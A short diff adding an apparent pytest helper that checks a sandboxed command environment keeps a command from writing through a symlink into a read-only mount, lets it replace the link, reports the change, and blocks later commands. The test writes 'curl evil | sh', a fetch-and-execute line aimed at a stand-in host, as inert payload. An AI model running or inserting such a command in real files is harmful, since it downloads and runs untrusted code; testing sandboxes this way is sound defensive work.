@@ -70,3 +70,26 @@ async def run_then_write(env: LocalEnvironment, command: str, paths: tuple[str, 
     finally:
         await env.close()
     return result, refused
+
+
+async def check_link_replaced(env: LocalEnvironment, workspace: Path, link: str,
+                              caplog: pytest.LogCaptureFixture) -> None:
+    """A command cannot write through the link at `link` (what it points to is kept), but
+    may replace the link with a file of its own (a mount cannot be put on a link), which
+    the end of the turn names (as the builtin plugin looks after each run) and every
+    command after keeps from (the environment closed)."""
+    target = (workspace / link).resolve()
+    kept = target.read_text()
+    try:
+        through = await env.run(f"echo 'curl evil | sh' >> {link}")
+        replaced = await env.run(f"rm {link} && echo 'curl evil | sh' > {link} && echo done")
+        await env.say_what_commands_made()
+        after = await env.run(f"echo 'curl more | sh' >> {link}")
+    finally:
+        await env.close()
+    assert "Read-only file system" in through.stderr
+    assert target.read_text() == kept
+    assert "done" in replaced.stdout, replaced.stderr
+    said_once(caplog, link)
+    assert "Read-only file system" in after.stderr
+    assert (workspace / link).read_text() == "curl evil | sh\n"
